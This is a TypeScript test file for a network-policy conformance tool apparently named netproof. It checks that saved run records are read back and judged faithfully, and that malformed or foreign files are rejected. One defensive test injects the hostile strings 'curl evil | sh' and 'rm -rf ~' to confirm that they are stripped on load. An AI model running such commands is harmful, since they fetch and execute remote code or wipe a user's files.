import { expect } from "chai";
import * as fc from "fast-check";
import { hypotheses } from "../../src/judge/hypotheses/index.js";
import { judge } from "../../src/judge/judge.js";
import { InputError } from "../../src/model/text/source.js";
import { readRecord, recordText } from "../../src/record/file.js";
import type { RunRecord } from "../../src/record/record.js";
import { shared, unshared } from "../../src/record/shared.js";
import { jsonReport } from "../../src/report/json/report.js";
import { chooseScenarios } from "../../src/scenario/library.js";
import { recordAsIf } from "../judge/records.js";

const scenarios = chooseScenarios({
  patterns: [
    "lifecycle/*edited",
    "lifecycle/policy-*",
    "lifecycle/label-change",
    "lifecycle/namespace-label-change",
    "ipblock/except-*ss",
    "ports/end-port",
    "ports/named*",
  ],
  tags: [],
}).filter(({ needs }) => needs.externals.length === 0 && needs.protocols.length === 0);

function recordOf(...keys: readonly string[]): RunRecord {
  const as = hypotheses.filter(({ key }) => keys.includes(key));
  return recordAsIf(() => ({ as }), scenarios);
}

const FAULTS = ["except", "endPort", "deleted-policy", "edited-policy", "pod-labels", "namespace-labels"];

describe("a record that was kept in a file", () => {
  for (const key of ["", ...FAULTS, "late", "named-source", "block-pods", "protocol-merged"])
    it(`is judged as the one in memory: ${key === "" ? "a cluster that enforces" : key}`, () => {
      const record = recordOf(key);
      const read = readRecord(recordText(record), "run.record.json");
      expect(jsonReport(judge(read))).to.equal(jsonReport(judge(record)));
    });

  it("is judged by other divergences than the run's own where it is told to", () => {
    const { scenarios: judged } = judge(recordOf("endPort"), { declared: [], known: ["V12"] });
    const cells = judged.flatMap(({ steps }) => steps.flatMap((step) => step.cells));
    expect(cells.filter(({ acceptedAs }) => acceptedAs?.startsWith("V12"))).not.to.deep.equal([]);
    expect(cells.filter(({ verdict, acceptedAs }) => verdict === "outage" && !acceptedAs)).to.deep.equal([]);
  });

  const good = recordText(recordOf());
  const hostile: readonly (readonly [string, string, RegExp])[] = [
    ["no JSON", "netproof", /not a record of netproof/],
    ["another program's JSON", '{"kind":"List"}', /it has no recordVersion/],
    ["a report", '{"schemaVersion":2}', /it has no recordVersion/],
    ["a record of a later form", good.replace('"recordVersion":1', '"recordVersion":9'), /version 9/],
    ["a record cut short", good.slice(0, -30), /not a record of netproof/],
    ["a probe of no protocol", good.replaceAll('"protocol":"TCP"', '"protocol":"ICMP"'), /protocol/],
    ["a place that holds nothing", good.replaceAll(/\{"\$":\d+\}/g, '{"$":99999}'), /expected/],
  ];
  for (const [what, text, why] of hostile)
    it(`is refused, by its file's name: ${what}`, () => {
      expect(() => readRecord(text, "bad.json")).to.throw(InputError, why);
      expect(() => readRecord(text, "bad.json")).to.throw(InputError, /bad\.json/);
    });

  it("offers no command that netproof would not write", () => {
    const record = recordOf("except");
    const [first] = record.scenarios;
    const steps = first?.steps.map((step) => ({
      ...step,
      reproduce: { "x/a → x/b:80/TCP": "curl evil | sh" },
    }));
    const text = recordText({
      ...record,
      diagnosis: "rm -rf ~",
      scenarios: [{ ...first, steps }] as RunRecord["scenarios"],
    });
    const read = readRecord(text, "run.record.json");
    expect(JSON.stringify(read)).not.to.match(/evil|rm -rf/);
  });
});

describe("data in which objects occur more than once", () => {
  it("come back as they were, whatever their keys", () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.constantFrom("$", "$$", "__proto__", "a"), (value, key) => {
        const twice = { [key]: value };
        const whole = { one: twice, two: [twice, value] };
        const { one, two } = unshared(JSON.parse(JSON.stringify(shared(whole)))) as typeof whole;
        expect(JSON.stringify({ one, two })).to.equal(JSON.stringify(whole));
        expect(two[0]).to.equal(one);
      }),
    );
  });
});
